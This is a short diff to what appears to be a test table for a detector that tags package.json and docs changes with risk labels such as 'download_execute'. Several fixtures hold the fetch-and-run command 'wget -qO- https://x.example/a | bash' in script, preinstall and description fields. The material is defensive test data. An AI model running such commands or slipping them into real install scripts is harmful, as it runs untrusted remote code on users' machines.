@@ -21,7 +21,8 @@ test.each([
   ['package.json', '+    "postinstall": "node scripts/build.js",', ['schedule', 'write']],
   ['package.json', '+    "version": "1.4.0",', ['write']],
   ['package.json', '+    "build": "tsc",', ['write']],
-  ['package.json', '+    "fetch": "wget -qO- https://x.example/a | bash",', ['write']],
+  ['package.json', '+    "fetch": "wget -qO- https://x.example/a | bash",', ['download_execute', 'write']],
+  ['package.json', '+  "description": "wget -qO- https://x.example/a | bash",', ['write']],
   ['docs/package.json.md', '+    "preinstall": "wget -qO- https://x.example/a | bash",', ['write']],
   [
     '.devcontainer/devcontainer.json',
